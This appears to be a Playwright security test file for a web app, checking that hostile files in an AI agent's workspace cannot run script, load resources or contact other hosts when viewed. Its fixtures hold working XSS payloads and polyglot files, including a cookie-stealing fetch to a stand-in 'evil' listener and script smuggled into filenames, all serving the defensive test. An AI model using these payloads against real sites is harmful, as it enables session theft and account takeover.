/**
 * U5: files of an agent's workspace that attack the person who opens them. Nothing in them runs in Banyan's origin, and
 * nothing reaches another host: in the page, and at their own address.
 */
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { agentScript, type Reply } from "@/tests/agents/scripted-provider";
import { expect, type RealServer, test } from "./real-server";
import { openStage, type Stage, submitTree } from "./stage";
import { tabAs } from "./tab-as";

/** Requests that the listener got. It must stay empty: each entry is a file that reached another host. */
const reached: string[] = [];
const CONNECTION = "a connection";
let listener: Server;
let evil: string;

let stage: Stage;
let server: RealServer;
let page: Page;
let tree: { id: string; workspace: string };
/** Requests of the signed-in browser to other hosts than Banyan, also those that it then refuses to send. */
const outside: string[] = [];
/** Dialogs and tabs that a file opened. */
const opened: string[] = [];

const runs = () =>
  `document.title='owned';fetch('${evil}/ran?'+document.cookie);fetch('/api/v1/trees',{method:'POST',body:'{&quot;task&quot;:&quot;x&quot;}'});top.location='${evil}/top';opener&amp;&amp;(opener.location='${evil}/opener');alert(1)`;

const html = () => `<!doctype html><html><head><title>A page</title><base href="${evil}/">
<meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="script" href="${evil}/preload">
<link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/module">
<link rel="stylesheet" href="${evil}/sheet.css"><link rel="manifest" href="${evil}/manifest"><link rel="icon" href="${evil}/icon">
<style>@import url(${evil}/import.css);@font-face{font-family:x;src:url(${evil}/font)}body{font-family:x;background:url(${evil}/background)}</style>
</head><body onload="${runs()}" onpageshow="${runs()}"><script>${runs().replaceAll("&amp;", "&").replaceAll("&quot;", '"')}</script>
<script src="${evil}/script.js"></script><img src="${evil}/image" onerror="${runs()}"><img src="x" onerror="${runs()}">
<iframe srcdoc="<script>parent.document.title='owned';alert(2)</script>"></iframe><iframe src="${evil}/frame"></iframe>
<iframe src="javascript:alert(3)"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video src="${evil}/video" autoplay poster="${evil}/poster"></video><audio src="${evil}/audio" autoplay></audio>
<form id="f" action="/api/v1/trees" method="post"><input name="task" value="x" autofocus onfocus="f.submit()"></form>
<details open ontoggle="${runs()}">x</details><a href="javascript:alert(4)" download>press</a><a ping="${evil}/ping" href="#x">x</a>
<svg><script>alert(5)</script><use href="${evil}/use#x"/></svg></body></html>`;

const svg =
  () => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${runs()}">
<style>@import url(${evil}/svg-import);rect{fill:url(${evil}/svg-fill#x)}</style>
<script>alert(6)</script><script href="${evil}/svg-script"/><rect width="40" height="40"/>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${evil}/svg-frame"/><img src="${evil}/svg-html-image" onerror="alert(7)"/></body></foreignObject>
<image href="${evil}/svg-image" width="9" height="9"/><use xlink:href="${evil}/svg-use#x"/><feImage href="${evil}/svg-filter"/>
<a xlink:href="javascript:alert(8)"><text y="20">press</text></a><animate attributeName="x" onbegin="alert(9)" dur="1s"/><set attributeName="href" to="javascript:alert(10)"/></svg>`;

/** A tiny picture, so that the page draws it as an image. */
const plainSvg = () =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(11)"><script>alert(12)</script><rect width="40" height="40"/><image href="${evil}/plain-image" width="9" height="9"/></svg>`;

const markdown = () => `# Read me

![beacon](${evil}/markdown-image) ![ref][one] <img src="${evil}/markdown-html" onerror="alert(13)">

[one]: ${evil}/markdown-reference "x"

[run](javascript:alert(14)) [data](data:text/html,<script>alert(15)</script>) [inside](/signout) <javascript:alert(16)>
[out](${evil}/markdown-link) ${evil}/markdown-bare [vb](vbscript:x) [tab](java&#9;script:alert(17))

<script>alert(18)</script><iframe srcdoc="<script>alert(19)</script>"></iframe><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/markdown-refresh">
<style>@import url(${evil}/markdown-import);</style><form action="/api/v1/trees" method="post"><button>x</button></form>

\`\`\`html
${html()}
\`\`\`
`;

const PDF =
  "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(20))>>>>endobj\ntrailer<</Root 1 0 R>>\n";
const LONG = `${"very-long-".repeat(23)}.html`;

/** Texts that the agent wrote with its tool, so that each file has lines of a diff. */
const written = () => ({
  "page.html": html(),
  "picture.svg": svg(),
  "plain.svg": plainSvg(),
  "read.md": markdown(),
  "change.diff": `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-x\n+${html().replaceAll("\n", " ")}\n`,
  "<img src=x onerror=alert(21)>.txt": html(),
  'a" onmouseover="alert(22)" x=".md': markdown(),
  "javascript:alert(23).html": html(),
  [LONG]: html(),
});

/** Types that do not fit their names, and files of two types. */
const placed = () => ({
  "page.png": html(),
  "picture.jpg": svg(),
  "both.gif": `GIF89a/*\x01\x00\x01\x00*/=1;alert(24);/*${html()}*/`,
  "both.webp": `RIFF\x00\x00\x00\x00WEBP${html()}`,
  "paper.pdf": PDF,
  "both.pdf": `${PDF}${html()}`,
  "sheet.css": `@import url(${evil}/own-import);`,
  "code.js": "alert(25)",
  "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(26)</script></html>`,
  "page.xml": `<?xml-stylesheet href="${evil}/xslt"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(27)</script></x>`,
  "page.mhtml": html(),
});

const write = (path: string, content: string): Reply => ({ calls: [{ name: "write_file", input: { path, content } }] });
const done = (result: string): Reply => ({ calls: [{ name: "end_task", input: { status: "success", result } }] });

test.beforeAll(async ({ browser }) => {
  listener = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  });
  listener.on("connection", () => reached.push(CONNECTION));
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const turns = Object.entries(written()).map(([path, content]) => write(path, content));
  const script = agentScript({
    worker: ({ turn }) => turns[turn] ?? done(markdown()),
    "*": done('{"outcome":"pass","reasons":["It is there."]}'),
  });
  stage = await openStage(browser, script);
  ({ server, page } = stage);
  tree = await submitTree(stage, { task: "Write hostile files", agent: "worker" });
  await expect.poll(async () => (await treeNow()).status, { timeout: 120_000 }).toBe("succeeded");
  for (const [name, content] of Object.entries(placed())) writeFileSync(join(tree.workspace, name), content, "latin1");
  page.context().on("request", (request) => {
    if (new URL(request.url()).origin !== server.url && !request.url().startsWith("data:")) outside.push(request.url());
  });
  page.on("dialog", (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => opened.push(popup.url()));
});

test.afterAll(async () => {
  await stage?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

async function treeNow(): Promise<{ status: string }> {
  return (await page.request.get(`${server.url}/api/v1/trees/${tree.id}`)).json();
}

const names = () => [...Object.keys(written()), ...Object.keys(placed())];
const bytesAt = (name: string) => `${server.url}/api/v1/trees/${tree.id}/files/${encodeURIComponent(name)}`;
const file = () => page.getByRole("region", { name: "File", exact: true });

/** Traces of a hostile file in the page: elements that run, load or send, and links that run. */
const FOREIGN =
  "script, iframe, object, embed, form, base, meta, link, style, svg foreignObject, video, audio, [onload], [onerror], [onmouseover], a[href^='javascript' i], a[href^='data' i]";

async function expectUntouched(name: string): Promise<void> {
  expect([name, reached, outside, opened]).toEqual([name, [], [], []]);
  await expectOneTree(name);
}

async function expectOneTree(name: string): Promise<void> {
  const trees = await page.request.get(`${server.url}/api/v1/trees`);
  expect([name, ((await trees.json()) as { items: unknown[] }).items.length]).toEqual([name, 1]);
}

test("U5: no file runs, loads or sends anything in the page that shows it, and the page stays usable", async () => {
  for (const name of names()) {
    const address = `${server.url}/trees/${tree.id}?view=files&path=${encodeURIComponent(name)}`;
    await page.goto(address);
    await expect(file().getByRole("heading", { level: 2 })).toHaveText(name);
    await expect(file().getByRole("status", { name: "Loading the file" })).toHaveCount(0);
    const parts = file().getByRole("group", { name: "Show" }).getByRole("button");
    for (const part of await parts.all()) {
      await part.click();
      await expect(part).toHaveAttribute("aria-pressed", "true");
      await expect(file().locator(FOREIGN)).toHaveCount(0);
    }
    await expect(file().locator(FOREIGN)).toHaveCount(0);
    expect([name, new URL(page.url()).origin, await page.title()]).toEqual([
      name,
      server.url,
      expect.not.stringMatching("owned"),
    ]);
    await expectUntouched(name);
  }
  await page.goto(`${server.url}/trees/${tree.id}`);
  await expect(page.getByRole("heading", { name: "Read me" }).first()).toBeVisible();
  await expectUntouched("the result");
});

test("U5: the address of a file is a download, whatever the file is", async () => {
  for (const name of names()) {
    const tab = await page.context().newPage();
    const [download] = await Promise.all([tab.waitForEvent("download"), tab.goto(bytesAt(name), {}).catch(() => null)]);
    expect([name, download.url(), tab.url()]).toEqual([name, bytesAt(name), "about:blank"]);
    await tab.close();
    await expectUntouched(name);
  }
});

test("U5: no page of Banyan's own can use a file as a script or a style sheet", async () => {
  await page.goto(`${server.url}/trees/${tree.id}`);
  for (const [tag, attribute, name] of [
    ["script", "src", "code.js"],
    ["script", "src", "both.gif"],
    ["link", "href", "sheet.css"],
  ] as const) {
    const outcome = await page.evaluate(
      ([tag, attribute, address]) =>
        new Promise<string>((resolve) => {
          const one = document.createElement(tag);
          if (one instanceof HTMLLinkElement) one.rel = "stylesheet";
          one.onload = () => resolve("loaded");
          one.onerror = () => resolve("refused");
          one.setAttribute(attribute, address);
          document.body.append(one);
        }),
      [tag, attribute, bytesAt(name)] as const,
    );
    expect([tag, name, outcome]).toEqual([tag, name, "refused"]);
  }
  await expectUntouched("embedded");
});

test("A10: a person whose role ends while the page is open gets one sentence, and nothing changes", async ({
  browser,
}) => {
  const vera = await tabAs("operator", browser, stage);
  await vera.goto(server.url);
  await vera.getByLabel("What should be done?").fill("Do more");
  const users = await (await page.request.get(`${server.url}/api/v1/users`)).json();
  const { id } = (users as { items: { id: string; email: string }[] }).items.find(
    ({ email }) => email === "vera@example.org",
  )!;
  const changed = await page.request.post(`${server.url}/api/v1/users/${id}/role`, {
    data: { role: "viewer" },
    headers: { origin: server.url },
  });
  expect(changed.status()).toBe(200);
  await vera.getByRole("button", { name: "Start" }).click();
  await expect(vera.getByRole("alert").filter({ hasText: "You are signed in as viewer" })).toHaveCount(1);
  await expectUntouched("a lower role");
  await vera.context().close();
});

/**
 * Tests each wall alone, as if a browser, a proxy or a later change did not treat the file as a download. It comes
 * last, because its connections stay in the list.
 */
test("U5: a file that is shown nevertheless has no origin, no scripts and nothing to load", async () => {
  for (const [name, type] of [
    ["page.html", "text/html"],
    ["picture.svg", "image/svg+xml"],
    ["page.xhtml", "application/xhtml+xml"],
    ["page.xml", "text/xml"],
    ["both.gif", "text/html"],
  ] as const) {
    const tab = await page.context().newPage();
    await tab.route(bytesAt(name), async (route) => {
      const answer = await route.fetch();
      const { "content-disposition": _, ...headers } = answer.headers();
      await route.fulfill({ response: answer, headers: { ...headers, "content-type": type } });
    });
    tab.on("dialog", (dialog) => opened.push(dialog.message()));
    await tab.goto(bytesAt(name), { waitUntil: "load" });
    expect([name, tab.url()]).toEqual([name, bytesAt(name)]);
    const own = await tab.evaluate(async () => {
      const cookie = (() => {
        try {
          return document.cookie;
        } catch (error) {
          return (error as Error).name;
        }
      })();
      const api = await fetch("/api/v1/trees").then(
        ({ status }) => String(status),
        () => "refused",
      );
      return { origin: self.origin, cookie, api, title: document.title };
    });
    expect([name, own]).toEqual([
      name,
      { origin: "null", cookie: "SecurityError", api: "refused", title: expect.not.stringMatching("owned") },
    ]);
    await tab.close();
    // The browser also reports requests that it refused to send, so the listener says what was sent. No policy stops
    // `preconnect`, which sends no request: this is why a file is a download in the first place.
    expect([name, reached.filter((one) => one !== CONNECTION), opened]).toEqual([name, [], []]);
    await expectOneTree(name);
  }
});
